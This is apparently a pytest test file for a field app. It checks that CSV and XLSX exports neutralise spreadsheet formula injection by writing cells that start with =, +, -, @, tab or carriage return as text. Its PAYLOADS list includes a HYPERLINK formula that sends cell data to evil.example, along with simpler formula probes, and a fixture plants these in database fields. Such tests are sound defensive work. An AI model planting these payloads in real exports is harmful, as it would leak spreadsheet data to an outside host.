"""No live formula in any export: text starting with = + - @ tab or CR is written as text
(one helper, `reports.cells`, used by every CSV and XLSX export)."""
from __future__ import annotations

import csv
import io
from datetime import date

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from fieldapp.accountability.models import Incident
from fieldapp.campaigns.services import current_campaign
from fieldapp.extensions import db
from fieldapp.reports.cells import FORMULA_STARTS
from tests.helpers import households_of, user, village

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def poisoned(db_session):
    for code, payload in zip(("T01", "T02", "T03", "T04", "T05", "T06"), PAYLOADS):
        village(code).name = payload
    household = households_of("T01")[0]
    household.head_name, household.code = PAYLOADS[0], PAYLOADS[3]
    campaign = current_campaign(user("chihuy"))
    campaign.name = PAYLOADS[1]
    db.session.add(Incident(household_id=household.id, occurred_on=date(2025, 11, 20), kind="scam",
                            note=PAYLOADS[2], created_by_id=user("chihuy").id))
    db.session.commit()
    return campaign


def live(text) -> bool:
    return isinstance(text, str) and text.startswith(FORMULA_STARTS)


def workbook_problems(body: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(body))
    return [f"{sheet.title}!{c.coordinate}: {c.value!r}" for sheet in book.worksheets for line in sheet.iter_rows()
            for c in line if c.data_type == "f" or live(c.value)]


def test_coverage_csv_has_no_formula(client, auth, poisoned):
    auth.login("chihuy")
    answer = client.get("/exports/coverage.csv")
    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff"))))
    names = {r[1] for r in rows[1:]}
    assert "'" + PAYLOADS[0] in names and "'+1+1" in names  # kept, as text
    assert [cell for r in rows for cell in r if live(cell)] == []


@pytest.mark.parametrize("url", ["/exports/coverage.xlsx", "/reports/campaigns/{c}.xlsx", "/incidents/export.xlsx",
                                 "/coverage/villages/{v}/walk.xlsx"])
def test_workbooks_have_no_formula(client, auth, poisoned, url):
    auth.login("chihuy")
    t01 = village("T01")
    t01.code = "=T/01:[x]"  # a formula, and characters a sheet's name cannot hold
    db.session.commit()
    answer = client.get(url.format(c=poisoned.id, v=t01.id))
    assert answer.status_code == 200
    assert workbook_problems(answer.data) == []


def test_verified_columns_and_report_sheets_have_no_formula_either(client, auth, poisoned):
    """With a verification sample the exports grow proof's columns; still every cell is text or a number."""
    from fieldapp.models import Verification
    from tests.proof.test_verification import _draw, _warn

    _warn(client, auth, "cskv1", households_of("T01"))
    _draw(client, auth)  # signed in as the commander
    db.session.rollback()
    item = db.session.scalars(sa.select(Verification).order_by(Verification.id)).first()
    assert auth.post(f"/proof/sample/{item.id}", {"result": "confirmed", "note": PAYLOADS[0]}).status_code in (302, 303)
    text = client.get("/exports/coverage.csv").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    assert "verified_coverage_pct" in rows[0] and [cell for r in rows for cell in r if live(cell)] == []
    for url in ("/exports/coverage.xlsx", f"/reports/campaigns/{poisoned.id}.xlsx"):
        body = client.get(url).data
        assert str(load_workbook(io.BytesIO(body)).worksheets[0]["A1"].value)  # a real workbook
        assert workbook_problems(body) == []
